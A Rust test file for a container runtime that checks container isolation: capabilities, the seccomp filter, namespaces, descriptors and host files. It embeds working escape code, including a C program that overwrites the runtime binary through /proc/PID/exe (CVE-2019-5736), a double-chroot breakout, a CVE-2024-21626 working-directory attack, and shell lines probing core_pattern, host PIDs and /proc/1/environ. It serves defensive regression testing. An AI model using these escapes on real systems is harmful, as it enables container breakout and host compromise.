//! What a container cannot do and cannot reach. Each test would notice if it could.

use crate::common::{self, Need, Output, Sandbox, User, finish, require, user};
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::PathBuf;
use std::process::Stdio;

fn single() -> bool {
    user() == User::Single
}

/// capabilities(7), by number.
const CHOWN: u64 = 1;
const NET_ADMIN: u64 = 1 << 12;
const SYS_ADMIN: u64 = 1 << 21;
/// What Docker leaves to a container's root.
const DEFAULT: u64 = 0xa804_25fb;

/// Inheritable, permitted, effective, bounding, ambient.
fn capability_sets(said: &str) -> Vec<u64> {
    let sets: Vec<u64> = said
        .lines()
        .filter_map(|line| line.strip_prefix("Cap")?.split_once(":\t"))
        .map(|(_, digits)| u64::from_str_radix(digits, 16).unwrap())
        .collect();
    assert_eq!(sets.len(), 5, "{said}");
    sets
}

#[test]
fn capabilities_are_exactly_those_that_were_decided() {
    let sandbox = Sandbox::with_alpine();
    let status = |flags: &[&str]| capability_sets(&sandbox.sh(flags, "cat /proc/self/status").ok());
    let same = |set: u64| vec![0, set, set, set, 0];
    assert_eq!(status(&[]), same(DEFAULT));
    assert_eq!(status(&["--cap-drop", "ALL"]), same(0));
    assert_eq!(status(&["--cap-drop", "CHOWN"]), same(DEFAULT & !CHOWN));
    assert_eq!(status(&["--cap-add", "NET_ADMIN"]), same(DEFAULT | NET_ADMIN));
    assert_eq!(status(&["--cap-drop", "all", "--cap-add", "cap_net_admin"]), same(NET_ADMIN));
    assert_eq!(status(&["--cap-drop", "ALL", "--cap-add", "NET_ADMIN,SYS_ADMIN"]), same(NET_ADMIN | SYS_ADMIN));
    let last: u32 = fs::read_to_string("/proc/sys/kernel/cap_last_cap").unwrap().trim().parse().unwrap();
    assert_eq!(status(&["--privileged"]), same((2 << last) - 1));
    // Another user has none at once, and no program can ever give him more than the bounding set.
    assert_eq!(status(&["-u", "nobody"]), [0, 0, 0, DEFAULT, 0]);
    assert_eq!(status(&["-u", "nobody", "--privileged"])[1..3], [0, 0]);
    // A second process gets no more than the first.
    sandbox.detached(&["--name", "bare", "--cap-drop", "ALL", "--cap-add", "NET_ADMIN"], "exec sleep 600");
    assert_eq!(capability_sets(&sandbox.ok(&["exec", "bare", "cat", "/proc/self/status"])), same(NET_ADMIN));
    let said = sandbox.ok(&["exec", "-u", "nobody", "bare", "cat", "/proc/self/status"]);
    assert_eq!(capability_sets(&said), [0, 0, 0, NET_ADMIN, 0]);
}

#[test]
fn a_capability_that_was_dropped_is_missed() {
    let sandbox = Sandbox::with_alpine();
    let chroot = "chroot / true 2>/dev/null && echo may";
    assert_eq!(sandbox.sh(&[], chroot).stdout, "may\n");
    assert_eq!(sandbox.sh(&["--cap-drop", "SYS_CHROOT"], chroot).stdout, "");
    let link = "ip link set lo mtu 1400 2>/dev/null && echo may";
    assert_eq!(sandbox.sh(&["--cap-add", "NET_ADMIN"], link).stdout, "may\n");
    assert_eq!(sandbox.sh(&[], link).stdout, "");
}

#[test]
fn no_new_privileges_only_where_asked_for() {
    let sandbox = Sandbox::with_alpine();
    let status = "grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status";
    assert_eq!(sandbox.sh(&[], status).ok(), "NoNewPrivs:\t0\nSeccomp:\t2\n");
    assert_eq!(sandbox.sh(&["--security-opt", "no-new-privileges"], status).ok(), "NoNewPrivs:\t1\nSeccomp:\t2\n");
    // The filter that answers changes of owner stays where there is one id only.
    let mode = if single() { 2 } else { 0 };
    for flags in [&["--privileged"][..], &["--security-opt", "seccomp=unconfined"]] {
        assert_eq!(sandbox.sh(flags, status).ok(), format!("NoNewPrivs:\t0\nSeccomp:\t{mode}\n"), "{flags:?}");
    }
}

/// A static program, compiled from C, in the directory that [`volume`] mounts.
fn compile(sandbox: &Sandbox, name: &str, source: &str) {
    let directory = sandbox.file("programs");
    fs::create_dir_all(&directory).unwrap();
    let code = directory.join(format!("{name}.c"));
    fs::write(&code, source).unwrap();
    let program = directory.join(name);
    let words = ["-static", "-O1", "-w", "-o", program.to_str().unwrap(), code.to_str().unwrap()];
    sandbox.run_other("gcc", &words).ok();
}

fn volume(sandbox: &Sandbox) -> String {
    format!("{}:/programs:ro", sandbox.file("programs").display())
}

const CALLS: &str = r#"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
static void say(const char *name, long result) {
    int error = result < 0 ? errno : 0;
    printf("%s %s\n", name, error ? strerrorname_np(error) : "made");
}
#define CALL(name, ...) errno = 0; say(#name, syscall(SYS_##name, __VA_ARGS__))
static void cloned(const char *name, unsigned long flags) {
    errno = 0;
    long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0) _exit(0);
    if (pid > 0) waitpid(pid, 0, 0);
    say(name, pid);
}
static void opened(const char *name, int family, int kind, int protocol) {
    errno = 0;
    int fd = socket(family, kind, protocol);
    say(name, fd);
    if (fd >= 0) close(fd);
}
int main(void) {
    setbuf(stdout, 0);
    char attributes[128] = {0};
    cloned("clone:plain", 0);
    cloned("clone:NEWUSER", CLONE_NEWUSER);
    cloned("clone:NEWNS", CLONE_NEWNS);
    cloned("clone:NEWNET", CLONE_NEWNET);
    cloned("clone:NEWPID", CLONE_NEWPID);
    errno = 0;
    long third = syscall(SYS_clone3, attributes, sizeof attributes);
    if (third == 0) _exit(0);
    say("clone3", third);
    CALL(unshare, CLONE_NEWUSER);
    CALL(unshare, CLONE_NEWNS);
    CALL(setns, -1, 0);
    CALL(mount, "none", "/tmp", "tmpfs", 0, 0);
    CALL(umount2, "/proc", MNT_DETACH);
    CALL(pivot_root, ".", ".");
    CALL(fsopen, "tmpfs", 0);
    CALL(open_tree, AT_FDCWD, "/", 1);
    CALL(move_mount, -1, "", -1, "", 0);
    CALL(mount_setattr, -1, "", 0, 0, 0);
    CALL(keyctl, 0, -3, 0, 0, 0);
    CALL(add_key, "user", "k", "v", 1, -3);
    CALL(request_key, "user", "k", 0, 0);
    CALL(bpf, 0, attributes, sizeof attributes);
    CALL(userfaultfd, 0);
    CALL(perf_event_open, attributes, 0, -1, -1, 0);
    CALL(io_uring_setup, 1, attributes);
    CALL(kexec_load, 0, 0, 0, 0);
    CALL(init_module, attributes, 1, "");
    CALL(finit_module, -1, "", 0);
    CALL(delete_module, "x", 0);
    CALL(reboot, 0, 0, 0, 0);
    CALL(swapon, "/x", 0);
    CALL(swapoff, "/x");
    CALL(acct, "/x");
    CALL(quotactl, 0, 0, 0, 0);
    CALL(syslog, 3, attributes, 10);
    CALL(settimeofday, attributes, 0);
    CALL(sethostname, "x", 1);
    CALL(open_by_handle_at, -1, attributes, 0);
    CALL(iopl, 3);
    CALL(vhangup, 0);
    CALL(personality, ADDR_NO_RANDOMIZE);
    CALL(personality, 0xffffffff);
    CALL(no_such, 0);
    opened("socket:INET", AF_INET, SOCK_STREAM, 0);
    opened("socket:UNIX", AF_UNIX, SOCK_STREAM, 0);
    opened("socket:NETLINK", AF_NETLINK, SOCK_RAW, 0);
    opened("socket:VSOCK", AF_VSOCK, SOCK_STREAM, 0);
    opened("socket:ALG", AF_ALG, SOCK_SEQPACKET, 0);
    opened("socket:unknown", 77, SOCK_STREAM, 0);
    return 0;
}
"#;

#[test]
fn system_calls_that_docker_refuses_are_refused() {
    require!(Need::Tool("gcc"));
    let sandbox = Sandbox::with_alpine();
    compile(&sandbox, "calls", &CALLS.replace("CALL(no_such, 0);", "errno = 0; say(\"no_such\", syscall(6000));"));
    let volume = volume(&sandbox);
    let said = |flags: &[&str]| {
        let words =
            [&["run", "--rm", "--network", "none", "-v", &volume], flags, &["alpine", "/programs/calls"]].concat();
        sandbox.ok(&words)
    };
    let confined = said(&[]);
    let answer = |text: &str, name: &str| -> String {
        let found: Vec<&str> = text.lines().filter_map(|line| line.strip_prefix(name)?.strip_prefix(' ')).collect();
        assert!(!found.is_empty(), "{name} was not tried:\n{text}");
        found.join(",")
    };
    let refused = [
        "clone:NEWUSER",
        "clone:NEWNS",
        "clone:NEWNET",
        "clone:NEWPID",
        "setns",
        "mount",
        "umount2",
        "pivot_root",
        "fsopen",
        "open_tree",
        "move_mount",
        "mount_setattr",
        "keyctl",
        "add_key",
        "request_key",
        "bpf",
        "userfaultfd",
        "perf_event_open",
        "io_uring_setup",
        "kexec_load",
        "init_module",
        "finit_module",
        "delete_module",
        "reboot",
        "swapon",
        "swapoff",
        "acct",
        "quotactl",
        "syslog",
        "settimeofday",
        "sethostname",
        "open_by_handle_at",
        "iopl",
        "vhangup",
        "socket:VSOCK",
        "socket:ALG",
        "socket:unknown",
    ];
    for name in refused {
        assert_eq!(answer(&confined, name), "EPERM", "{name}");
    }
    assert_eq!(answer(&confined, "unshare"), "EPERM,EPERM");
    // The second one asks only.
    assert_eq!(answer(&confined, "personality"), "EPERM,made");
    // A C library falls back to what it knew before.
    assert_eq!(answer(&confined, "clone3"), "ENOSYS");
    assert_eq!(answer(&confined, "no_such"), "ENOSYS");
    for name in ["clone:plain", "socket:INET", "socket:UNIX", "socket:NETLINK"] {
        assert_eq!(answer(&confined, name), "made", "{name}");
    }

    // The control: without the filter the same program gets further, so the filter it was that refused.
    let open = said(&["--security-opt", "seccomp=unconfined"]);
    assert_eq!(answer(&open, "clone:NEWUSER"), "made");
    assert_ne!(answer(&open, "keyctl"), "EPERM");
    assert_ne!(answer(&open, "personality"), "EPERM,made");
    // What a capability guards comes with the capability.
    let with_capability = said(&["--cap-add", "SYS_ADMIN"]);
    assert_eq!(answer(&with_capability, "mount"), "made");
    assert_eq!(answer(&with_capability, "keyctl"), "EPERM");
    assert_eq!(answer(&with_capability, "kexec_load"), "EPERM");

    // A second process is filtered like the first.
    sandbox.detached(&["--name", "held", "-v", &volume], "exec sleep 600");
    assert_eq!(sandbox.ok(&["exec", "held", "/programs/calls"]), confined);
}

/// What of open descriptors a process sees: its own directory listing apart.
const DESCRIPTORS: &str = "for fd in /proc/self/fd/*; do n=${fd##*/}; case $n in 0|1|2) ;; *) [ ! -e $fd ] || echo $n $(readlink $fd);; esac; done";

#[test]
fn no_descriptor_is_handed_in() {
    let sandbox = Sandbox::with_alpine();
    // Whoever started the engine may have open what he likes, as a shell has its scripts.
    let with_open = |words: &[&str]| -> Output {
        let mut command = sandbox.other("bash");
        let script = "exec 7</etc/passwd 8</ 9<>/dev/null 63</etc; exec \"$@\"";
        command.args(["-c", script, "bash", &Sandbox::binary()]).args(words);
        finish(&mut command)
    };
    assert_eq!(with_open(&["run", "--rm", "--network", "none", "alpine", "sh", "-c", DESCRIPTORS]).ok(), "");
    assert_eq!(with_open(&["run", "--rm", "--init", "--network", "none", "alpine", "sh", "-c", DESCRIPTORS]).ok(), "");
    let first = DESCRIPTORS.replace("self", "1");
    let said = with_open(&[
        "run",
        "--rm",
        "--init",
        "--network",
        "none",
        "alpine",
        "sh",
        "-c",
        &format!("{first}; ls -l /proc/1/fd"),
    ])
    .ok();
    for word in ["passwd", "/etc", "-> /\n", "pipe:[", "memfd"] {
        let beyond: Vec<&str> = said
            .lines()
            .filter(|l| l.contains(word) && !l.contains(" 0 -> ") && !l.contains(" 1 -> ") && !l.contains(" 2 -> "))
            .collect();
        assert!(beyond.is_empty(), "the init in front holds {beyond:?}");
    }
    with_open(&["run", "-d", "--name", "held", "--network", "none", "alpine", "sleep", "600"]).ok();
    assert_eq!(with_open(&["exec", "held", "sh", "-c", DESCRIPTORS]).ok(), "");
    // The first process of a detached one, too.
    assert_eq!(sandbox.ok(&["exec", "held", "sh", "-c", &first]), "");
    // The control: a shell that has one more shows it.
    let said = sandbox.sh(&[], &format!("exec 5</etc/passwd; {DESCRIPTORS}")).ok();
    assert_eq!(said, "5 /etc/passwd\n");
}

#[test]
fn a_working_directory_cannot_be_a_host_s_descriptor() {
    // CVE-2024-21626: a directory that the engine has open becomes the working directory of the container.
    let sandbox = Sandbox::with_alpine();
    let secret = sandbox.file("secret");
    fs::create_dir(&secret).unwrap();
    fs::write(secret.join("treasure"), "found").unwrap();
    let look = "cat treasure ../treasure 2>/dev/null; for up in . .. ../.. ../../.. ../../../../../..; do
        cat $up/files/secret/treasure $up/proc/1/environ 2>/dev/null | tr '\\0' '\\n' | grep -E 'found|MINIRUN_' ; done; echo looked";
    sandbox.detached(&["--name", "held"], "exec sleep 600");
    sandbox.ok(&["import", "-c", "WORKDIR /proc/self/fd/8", common::alpine_tar().to_str().unwrap(), "trap"]);
    let with_open = |words: &[&str]| -> Output {
        let mut command = sandbox.other("bash");
        let opened: String = (3..20).map(|n| format!(" {n}<{}", secret.display())).collect();
        command.args(["-c", &format!("exec{opened}; exec \"$@\""), "bash", &Sandbox::binary()]).args(words);
        finish(&mut command)
    };
    // The control: bash does hand on what it opened.
    assert_eq!(with_open(&["version"]).code, 0);
    let shown = finish(
        sandbox.other("bash").args(["-c", &format!("exec 8<{}; cat /proc/self/fd/8/treasure", secret.display())]),
    );
    assert_eq!(shown.stdout, "found");
    let check = |what: &str, output: Output| {
        assert!(!output.stdout.contains("found") && !output.stdout.contains("MINIRUN"), "{what}: {}", output.streams());
        assert!(output.code == 0 || (125..=127).contains(&output.code), "{what}: {}", output.streams());
    };
    for number in 3..20 {
        for path in [format!("/proc/self/fd/{number}"), format!("/proc/self/fd/{number}/..")] {
            let words = ["run", "--rm", "--network", "none", "-w", &path, "alpine", "sh", "-c", look];
            check(&path, with_open(&words));
            check(&path, with_open(&["exec", "-w", &path, "held", "sh", "-c", look]));
        }
    }
    check("WORKDIR", with_open(&["run", "--rm", "--network", "none", "trap", "sh", "-c", look]));
    // Nothing was made through such a path either.
    with_open(&["run", "--rm", "--network", "none", "-w", "/proc/self/fd/8/made", "alpine", "true"]);
    assert_eq!(fs::read_dir(&secret).unwrap().count(), 1, "a directory was made on the host");
}

/// A copy of minirun that its owner, who is the container's root, may write to.
fn own_binary(sandbox: &Sandbox) -> PathBuf {
    let copy = sandbox.file("minirun");
    fs::copy(Sandbox::binary(), &copy).unwrap();
    fs::set_permissions(&copy, PermissionsExt::from_mode(0o755)).unwrap();
    copy
}

/// Waits for a process whose executable is not the one it knows, and writes into that: through the link, through an open
/// descriptor of it, and through the descriptor made writable again.
const OVERWRITE: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
static int seen, most;
static void attack(const char *pid) {
    char path[64], again[64];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int held = open(path, O_PATH);
    if (held < 0) return;
    struct stat its, ours;
    if (fstat(held, &its) || stat("/proc/self/exe", &ours) || its.st_ino == ours.st_ino) { close(held); return; }
    if (its.st_size < 3000000) { close(held); return; }
    printf("saw %s\n", pid);
    snprintf(again, sizeof again, "/proc/self/fd/%d", held);
    for (int try = 0; try < 3000; try++) {
        int fd = open(again, O_WRONLY | O_TRUNC);
        if (fd < 0 && errno == EROFS) break;
        if (fd < 0) fd = open(again, O_WRONLY);
        if (fd >= 0) { write(fd, "#!/bin/sh\necho owned\n", 21); puts("WROTE"); exit(0); }
        if (errno != ETXTBSY) break;
        usleep(100);
    }
    printf("refused %s\n", strerrorname_np(errno));
    fchmod(held, 0777); chmod(again, 0777);
    close(held);
    if (++seen == most) exit(0);
}
int main(int count, char **words) {
    setbuf(stdout, 0);
    most = count > 2 ? atoi(words[2]) : 0;
    puts("waiting");
    for (int i = 0; i < atoi(words[1]); i++) {
        DIR *all = opendir("/proc");
        struct dirent *one;
        while ((one = readdir(all))) if (one->d_name[0] >= '1' && one->d_name[0] <= '9') attack(one->d_name);
        closedir(all);
        usleep(50);
    }
    puts("gave up");
    return 0;
}
"##;

#[test]
fn the_engine_s_binary_cannot_be_overwritten_from_inside() {
    // CVE-2019-5736. The container runs the engine's own binary as its command and keeps it running while another
    // process of it writes into `/proc/PID/exe`.
    require!(Need::Tool("gcc"));
    let sandbox = Sandbox::with_alpine();
    compile(&sandbox, "overwrite", OVERWRITE);
    let binary = own_binary(&sandbox);
    let before = fs::read(&binary).unwrap();
    let with_own = |words: &[&str]| -> Output {
        let mut command = sandbox.other(&binary);
        finish(command.args(words))
    };
    let volume = volume(&sandbox);

    // The control: a binary that is there to be written to is found and overwritten by the same program.
    let victim = sandbox.file("victim");
    fs::create_dir(&victim).unwrap();
    let big = victim.join("sleep");
    fs::copy("/bin/busybox", &big).or_else(|_| fs::copy(Sandbox::binary(), &big)).unwrap();
    let padding = [fs::read(&big).unwrap(), vec![0; 4_000_000]].concat();
    fs::write(&big, padding).unwrap();
    let target = format!("{}:/victim", victim.display());
    let said = sandbox
        .sh(&["-v", &volume, "-v", &target, "--init"], "/victim/sleep 1 & sleep 0.3; exec /programs/overwrite 20000");
    if fs::metadata("/bin/busybox").is_ok() {
        assert!(said.stdout.contains("WROTE"), "the attack does not work where it should: {}", said.streams());
        assert!(fs::read(&big).unwrap().starts_with(b"#!/bin/sh"));
    }

    // As the container's first process: by its name, and by a script's first line.
    let script = sandbox.file("programs").join("again");
    fs::write(&script, "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(&script, PermissionsExt::from_mode(0o755)).unwrap();
    for entry in ["/proc/self/exe", "/programs/again"] {
        let words = ["run", "--rm", "--network", "none", "-v", &volume, "alpine", entry, "version"];
        let output = with_own(&words);
        assert!(!output.stdout.contains("owned"), "{}", output.streams());
        assert!(fs::read(&binary).unwrap() == before, "{entry}: the binary was overwritten");
    }

    // As /bin/sh, while somebody who waits for it is there already.
    let replace = "rm /bin/sh; cp /programs/again /bin/sh; exec /programs/overwrite 4000000";
    with_own(&["run", "-d", "--name", "trap", "--network", "none", "-v", &volume, "alpine", "sh", "-c", replace]).ok();
    sandbox.wait_for_log("trap", "waiting");
    for words in
        [&["exec", "trap", "sh"][..], &["exec", "trap", "/proc/self/exe", "version"], &["exec", "trap", "sleep", "0.1"]]
    {
        for _ in 0..5 {
            let output = with_own(words);
            assert!(!output.stdout.contains("owned"), "{}", output.streams());
        }
    }
    // With a terminal it stays for as long as nobody types: time enough.
    let said = sandbox.ok(&["logs", "trap"]);
    assert!(!said.contains("WROTE"), "{said}");
    let after = fs::read(&binary).unwrap();
    assert!(after == before, "the binary was overwritten: {} bytes, {} before", after.len(), before.len());
    assert_eq!(fs::metadata(&binary).unwrap().permissions().mode() & 0o777, 0o755, "its mode was changed");
    with_own(&["rm", "-f", "trap"]).ok();
}

#[test]
fn the_engine_s_binary_stays_whole_while_a_container_runs_it() {
    // The same, with the engine's binary held running inside: it reads a password that never ends.
    require!(Need::Tool("gcc"));
    let sandbox = Sandbox::with_alpine();
    compile(&sandbox, "overwrite", OVERWRITE);
    let binary = own_binary(&sandbox);
    let before = fs::read(&binary).unwrap();
    let volume = volume(&sandbox);
    let run = ["run", "-d", "-i", "--init", "--name", "trap", "--network", "none", "-e", "HOME=/root", "-v", &volume];
    let words =
        [&run[..], &["alpine", "/proc/self/exe", "login", "-u", "x", "--password-stdin", "localhost:1"]].concat();
    finish(sandbox.other(&binary).args(&words)).ok();
    let said = finish(sandbox.other(&binary).args(["exec", "trap", "/programs/overwrite", "20000", "1"])).ok();
    assert!(said.contains("saw "), "the engine's binary was not seen running inside: {said}");
    assert!(said.contains("refused EROFS") && !said.contains("WROTE"), "{said}");
    assert!(fs::read(&binary).unwrap() == before);
    assert_eq!(fs::metadata(&binary).unwrap().permissions().mode() & 0o777, 0o755);
    finish(sandbox.other(&binary).args(["rm", "-f", "trap"])).ok();
}

#[test]
fn host_processes_are_out_of_sight_and_reach() {
    let sandbox = Sandbox::with_alpine();
    let mut bystander = sandbox.other("sleep").arg("600").spawn().unwrap();
    let pid = bystander.id();
    let script = format!(
        "ls -d /proc/[0-9]* | wc -l; ps | grep -c 'sleep 600'; kill -9 {pid} 2>&1; kill -9 -- -1 2>/dev/null
        kill -9 -{pid} 2>/dev/null; readlink /proc/1/exe"
    );
    for flags in [&[][..], &["--privileged"]] {
        let said = sandbox.sh(flags, &script).stdout;
        let mut lines = said.lines();
        let count: u32 = lines.next().unwrap().parse().unwrap();
        assert!(count <= 4, "{count} processes: {said}");
        // The command line of its own `grep` and `sh`, at most.
        assert!(lines.next().unwrap().parse::<u32>().unwrap() <= 2, "{said}");
        assert!(bystander.try_wait().unwrap().is_none(), "a process of the host was killed from inside");
    }
    bystander.kill().unwrap();
    bystander.wait().unwrap();
}

#[test]
fn host_files_are_out_of_reach() {
    let sandbox = Sandbox::with_alpine();
    let secret = sandbox.file("treasure");
    fs::write(&secret, "found").unwrap();
    let here = secret.display();
    let script = format!(
        "for p in / /.. /proc/1/root /proc/self/root /proc/1/cwd /proc/self/cwd/../../../..; do cat $p{here} 2>/dev/null; done
        mkdir -p /tmp/a; chroot /tmp/a true 2>/dev/null; cd ../../../../..; cat .{here} 2>/dev/null
        awk '{{ print $5 }}' /proc/self/mountinfo | grep -v -E '^/(proc|dev|sys|etc)?(/|$)'; echo looked"
    );
    for flags in [&[][..], &["--privileged"]] {
        assert_eq!(sandbox.sh(flags, &script).ok(), "looked\n", "{flags:?}");
    }
    // The control: what is mounted can be read.
    let volume = format!("{}:{}", here, here);
    assert!(sandbox.sh(&["-v", &volume], &script).ok().contains("found"));
}

/// Breaks out of a chroot by the classic way: a second chroot below the first, then up.
const CHROOT_ESCAPE: &str = r#"
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(int count, char **words) {
    int top = open("/", O_RDONLY);
    mkdir("/below", 0755);
    if (chroot("/below")) { puts("no chroot"); return 1; }
    fchdir(top);
    for (int i = 0; i < 100; i++) chdir("..");
    chroot(".");
    puts(access(words[1], F_OK) ? "held" : "ESCAPED");
    return 0;
}
"#;

#[test]
fn a_second_chroot_leads_nowhere() {
    require!(Need::Tool("gcc"));
    let sandbox = Sandbox::with_alpine();
    compile(&sandbox, "escape", CHROOT_ESCAPE);
    let treasure = sandbox.file("treasure");
    fs::write(&treasure, "").unwrap();
    let volume = volume(&sandbox);
    let words =
        ["run", "--rm", "--network", "none", "-v", &volume, "alpine", "/programs/escape", treasure.to_str().unwrap()];
    assert_eq!(sandbox.ok(&words), "held\n");
}

#[test]
fn settings_of_the_host_cannot_be_changed() {
    let sandbox = Sandbox::with_alpine();
    let name = fs::read_to_string("/proc/sys/kernel/hostname").unwrap();
    let script = "for f in /proc/sys/kernel/hostname /proc/sys/kernel/core_pattern /proc/sys/vm/overcommit_memory \
        /proc/sys/kernel/modprobe /proc/sysrq-trigger /sys/power/state /sys/kernel/uevent_helper; do
            [ ! -e $f ] || ! echo x 2>/dev/null > $f || echo $f was written
        done; hostname changed 2>/dev/null && echo hostname
        mount -o remount,rw /proc/sys 2>/dev/null && echo remounted; umount /proc/sys 2>/dev/null && echo unmounted; echo tried";
    assert_eq!(sandbox.sh(&[], script).ok(), "tried\n");
    // With SYS_ADMIN alone the mounts may be its own to change, but the settings are still the host's.
    let pattern = fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    sandbox.sh(&["--cap-add", "SYS_ADMIN"], script);
    assert_eq!(fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap(), pattern);
    assert_eq!(fs::read_to_string("/proc/sys/kernel/hostname").unwrap(), name);
}

#[test]
fn root_inside_is_the_caller_outside() {
    let sandbox = Sandbox::with_alpine();
    let directory = sandbox.file("data");
    let volume = format!("{}:/data", directory.display());
    let script = "touch /data/root; touch /data/other; chown 33:33 /data/other; cat /proc/self/uid_map; exec sleep 600";
    let id = sandbox.detached(&["-v", &volume], script);
    common::wait_until("the files are there", || directory.join("other").exists());
    sandbox.wait_for_log(&id, "0 ");
    let own = nix::unistd::getuid().as_raw();
    assert_eq!(fs::metadata(directory.join("root")).unwrap().uid(), own);
    common::wait_until("chown is done", || {
        let uid = fs::metadata(directory.join("other")).unwrap().uid();
        match user() {
            User::Root => uid == 33,
            User::Range => uid != own && uid > 65535,
            User::Single => uid == own,
        }
    });
    let pid = sandbox.look(&id, "{{.State.Pid}}");
    let owner = fs::metadata(format!("/proc/{pid}")).unwrap().uid();
    match user() {
        // Nobody's on the host, and with it what a container breaks out into.
        User::Root => assert!(owner > 65535, "{owner}"),
        User::Range | User::Single => assert_eq!(owner, own),
    }
    // Root of a namespace of its own, never the host's.
    let namespace = |of: &str| fs::read_link(format!("/proc/{of}/ns/user")).unwrap();
    assert_ne!(namespace(&pid), namespace("self"));
}

#[test]
fn two_containers_share_the_user_namespace_and_no_other() {
    let sandbox = Sandbox::with_alpine();
    let pids: Vec<String> =
        ["one", "two"].map(|name| sandbox.sleeper(name)).iter().map(|id| sandbox.look(id, "{{.State.Pid}}")).collect();
    let namespace = |pid: &str, kind: &str| fs::read_link(format!("/proc/{pid}/ns/{kind}")).unwrap();
    assert_eq!(namespace(&pids[0], "user"), namespace(&pids[1], "user"));
    for kind in ["mnt", "pid", "net", "uts", "ipc", "cgroup"] {
        assert_ne!(namespace(&pids[0], kind), namespace(&pids[1], kind), "{kind}");
        assert_ne!(namespace(&pids[0], kind), namespace("self", kind), "{kind}");
    }
    // One cannot see or signal the other.
    let said =
        sandbox.run(&["exec", "one", "sh", "-c", &format!("ls -d /proc/[0-9]* | wc -l; kill -9 {} 2>&1", pids[1])]);
    assert!(said.stdout.contains("No such process") || said.code != 0, "{}", said.streams());
    assert_eq!(sandbox.look("two", "{{.State.Status}}"), "running");
    // A second process shares all of the first one's.
    let inside = sandbox.ok(&[
        "exec",
        "one",
        "sh",
        "-c",
        "for n in mnt pid net uts ipc cgroup user; do readlink /proc/self/ns/$n; done",
    ]);
    let first: Vec<String> = ["mnt", "pid", "net", "uts", "ipc", "cgroup", "user"]
        .iter()
        .map(|k| namespace(&pids[0], k).display().to_string())
        .collect();
    assert_eq!(inside.lines().collect::<Vec<_>>(), first);
}

#[test]
fn the_host_s_network_is_shared_only_when_asked_for() {
    let sandbox = Sandbox::with_alpine();
    let own = fs::read_link("/proc/self/ns/net").unwrap().display().to_string();
    let said = sandbox.ok(&["run", "--rm", "--network", "host", "alpine", "readlink", "/proc/self/ns/net"]);
    assert_eq!(said.trim_end(), own);
    let script = "readlink /proc/self/ns/net; ip -o link | grep -c -v ' lo:'; ip -o addr show lo | grep -c 127.0.0.1";
    let said = sandbox.sh(&[], script).stdout;
    assert!(!said.contains(&own) && said.ends_with("\n0\n1\n"), "{said}");
}

#[test]
fn set_user_id_programs_gain_nothing_on_the_host() {
    let sandbox = Sandbox::with_alpine();
    let directory = sandbox.file("data");
    let volume = format!("{}:/data", directory.display());
    sandbox.sh(&["-v", &volume], "cp /bin/busybox /data/id; chown 0:0 /data/id; chmod 4755 /data/id").ok();
    let meta = fs::metadata(directory.join("id")).unwrap();
    assert_eq!(meta.uid(), nix::unistd::getuid().as_raw(), "it is somebody else's than the caller's");
    if !single() {
        // Within the container it works as such programs do.
        let effective =
            "cp /bin/busybox /id; chmod 4755 /id; cp /bin/busybox /tmp/x; exec su nobody -s /bin/sh -c 'id -u'";
        assert_eq!(sandbox.sh(&[], effective).ok(), "65534\n");
    }
}

#[test]
fn the_monitor_cannot_be_spoken_to_from_inside() {
    // Its socket lies on the host, and the end of it that the client holds is nobody else's.
    let sandbox = Sandbox::with_alpine();
    let mut command = sandbox.command(&[
        "run",
        "--rm",
        "--network",
        "none",
        "alpine",
        "sh",
        "-c",
        "ls -l /proc/1/fd /proc/self/fd; cat /proc/net/unix",
    ]);
    let output = finish(command.stdin(Stdio::null()));
    assert!(!output.stdout.contains("socket:"), "{}", output.streams());
    let path = sandbox.root().display().to_string();
    assert!(!output.stdout.contains(&path), "a socket of the host is named: {}", output.stdout);
    // The control: it is there.
    sandbox.sleeper("held");
    assert!(sandbox.left_behind().iter().any(|l| l.contains(&path) && l.starts_with("socket:")));
}
